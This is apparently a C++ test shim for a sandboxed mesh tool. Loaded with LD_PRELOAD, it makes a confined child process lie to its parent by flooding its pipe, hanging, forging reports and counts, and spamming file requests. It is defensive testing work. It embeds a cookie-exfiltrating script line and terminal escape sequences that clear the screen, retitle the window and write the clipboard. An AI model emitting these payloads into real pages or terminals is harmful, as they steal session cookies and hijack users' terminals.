// Loaded into a real tool with LD_PRELOAD, it makes one of the tool's confined children lie to its
// parent at its first read of the input, as a child taken over by a hostile file would:
//   OLVANTA_LIE     flood                 hundreds of MB on its report, as fast as the pipe takes them
//                   hang                  nothing more, for ever
//                   judgement             "in the viewer's form", with believable numbers
//                   judgement-error       a read that failed with an error no system has
//                   judgement-nan         a read that failed, with bounds that are no numbers
//                   done-miscounted       a small mesh written, a byte count one more than that
//                   done-unwritten        a believable byte count, nothing written
//                   pixels-miscounted     a picture four bytes short
//                   pixels-not-a-picture  exactly as many bytes as the pixels, of a script's text
//                   counts                a reading whose lists would hold 2^34 vertices
//                   names                 the converter's child asks its parent for 20,000 files
//                                         and says how many were answered
//                   control-characters    a failure whose words clear the screen, retitle and
//                                         write the clipboard of the terminal they reach
//   OLVANTA_LIE_IN  which process lies: "PROGRAM KIND FDS" of role_of_this_process
//   OLVANTA_LIE_PIXELS  the bytes of the picture the drawing child owes
// Each process says "@@ PID ROLE" in the shared memory at its first read of the input, the lying
// one adds " lies: LIE"; every other process reads on as it would.
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstring>
#include <string>

#include "first_read.h"
#include "viewers_form.h"

namespace {

const int report_descriptor = 3, output_descriptor = 5;

std::string from_environment(const char* name)
{
    const char* value = getenv(name);
    return value ? value : "";
}

// The role without what the process reads: the test names a process by what it is.
std::string who(const std::string& role)
{
    const std::size_t kind_end = role.find(' ', role.find(' ') + 1);
    const std::size_t reads_end = role.find(' ', kind_end + 1);
    return role.substr(0, kind_end) + (reads_end == std::string::npos ? "" : role.substr(reads_end));
}

bool put(int fd, const std::string& bytes)
{
    std::size_t done = 0;
    while (done < bytes.size()) {
        const ssize_t n = write(fd, bytes.data() + done, bytes.size() - done);
        if (n <= 0)
            return false;
        done += std::size_t(n);
    }
    return true;
}

// Its first byte is a picture's, so a parent that took the first bytes of a flood for a picture
// would show it.
[[noreturn]] void flood()
{
    std::string block(1 << 20, 'x');
    block[0] = 'p';
    for (int sent = 0; sent < 512 && put(report_descriptor, block); ++sent) {
    }
    _exit(0);
}

[[noreturn]] void hang()
{
    for (;;)
        sleep(1000);
}

[[noreturn]] void forge_a_judgement()
{
    const FormJudgement judgement{true, 8, 6, ModelBounds{{0, 0, 0}, {1, 1, 1}}, false, 0};
    _exit(put(report_descriptor, std::string(reinterpret_cast<const char*>(&judgement), sizeof judgement)) ? 0 : 1);
}

[[noreturn]] void forge_an_unbelievable_judgement(bool error)
{
    const double nan = __builtin_nan(""), low = error ? 0 : nan;
    const FormJudgement judgement{false, 0, 0, ModelBounds{{low, 0, 0}, {1, 1, 1}}, true, error ? 1 << 20 : EIO};
    _exit(put(report_descriptor, std::string(reinterpret_cast<const char*>(&judgement), sizeof judgement)) ? 0 : 1);
}

// Long enough for three vertices and a face by the parent's count, so that only the length of
// the output can give the lie away.
const std::string small_mesh = "# made by the converter\nVertex 1 0 0 0 {normal=(0 0 1)}\n"
                               "Vertex 2 1 0 0 {normal=(0 0 1)}\nVertex 3 0 1 0 {normal=(0 0 1)}\nFace 1 1 2 3\n";

[[noreturn]] void forge_success(bool write_the_mesh)
{
    std::size_t claimed = small_mesh.size();
    if (write_the_mesh) {
        put(output_descriptor, small_mesh);
        ++claimed;
    }
    _exit(put(report_descriptor, "importing\nconverting\ndone 3 1 " + std::to_string(claimed) + "\n") ? 0 : 1);
}

[[noreturn]] void forge_pixels(bool miscounted)
{
    const std::size_t owed = std::size_t(atol(from_environment("OLVANTA_LIE_PIXELS").c_str()));
    std::string said = "p";
    const std::string script = "<script>fetch('http://127.0.0.1/'+document.cookie)</script>\n";
    while (said.size() < 1 + owed)
        said += script;
    said.resize(1 + owed - (miscounted ? 4 : 0));
    _exit(put(report_descriptor, said) ? 0 : 1);
}

// The header a reading child sends the viewer (src/mesh/confined_reading.cpp), its numbers forged:
// lists far larger than any file of this size could give, at addresses the child never had.
struct ListsHeader {
    int outcome, error, file_changed, misnumbered;
    std::uint64_t unread_normals, misnumbered_place;
    int misnumbered_number;
    std::uint64_t vertices, faces, vertices_at, faces_at;
};

[[noreturn]] void forge_counts()
{
    const ListsHeader header{0, 0, 0, 0, 0, 0, 0, std::uint64_t(1) << 34, 1, 0x10000, 0x20000};
    put(report_descriptor, std::string(reinterpret_cast<const char*>(&header), sizeof header));
    hang(); // as a child that waits for its lists to be taken
}

// As the import asks for a file the input names (tools/convert/companion_files.cpp).
bool asked_and_answered(const std::string& name)
{
    const int broker_descriptor = 6;
    iovec asked{const_cast<char*>(name.data()), name.size()};
    msghdr request{};
    request.msg_iov = &asked;
    request.msg_iovlen = 1;
    if (sendmsg(broker_descriptor, &request, MSG_NOSIGNAL) != ssize_t(name.size()))
        return false;
    char answer = 0, space[CMSG_SPACE(sizeof(int))] = {};
    iovec part{&answer, 1};
    msghdr message{};
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = space;
    message.msg_controllen = sizeof space;
    return recvmsg(broker_descriptor, &message, MSG_CMSG_CLOEXEC) == 1;
}

[[noreturn]] void ask_for_names()
{
    int answered = 0;
    while (answered < 20000 && asked_and_answered("no-such-file-" + std::to_string(answered)))
        ++answered;
    tell("@@ answered " + std::to_string(answered) + "\n");
    put(report_descriptor, "error asked for too many files\n");
    _exit(1);
}

const char* const hostile_words = "\033]0;owned\007\033[2J\033]52;c;b3duZWQ=\007\r\bhidden";

[[noreturn]] void say_control_characters(const std::string& role)
{
    const bool drawing = role.find(" drawing ") != std::string::npos;
    put(report_descriptor, drawing ? std::string("d") + hostile_words : std::string("error ") + hostile_words + "\n");
    _exit(1);
}

} // namespace

void on_first_read_of_input(int fd)
{
    const std::string role = role_of_this_process(fd), lie = from_environment("OLVANTA_LIE");
    const std::string heading = "@@ " + std::to_string(getpid()) + " " + role;
    if (who(role) != from_environment("OLVANTA_LIE_IN")) {
        tell(heading + "\n");
        return;
    }
    tell(heading + " lies: " + lie + "\n");
    if (lie == "flood")
        flood();
    if (lie == "hang")
        hang();
    if (lie == "judgement")
        forge_a_judgement();
    if (lie == "judgement-error" || lie == "judgement-nan")
        forge_an_unbelievable_judgement(lie == "judgement-error");
    if (lie == "done-miscounted" || lie == "done-unwritten")
        forge_success(lie == "done-miscounted");
    if (lie == "pixels-miscounted" || lie == "pixels-not-a-picture")
        forge_pixels(lie == "pixels-miscounted");
    if (lie == "names")
        ask_for_names();
    if (lie == "counts")
        forge_counts();
    if (lie == "control-characters")
        say_control_characters(role);
}
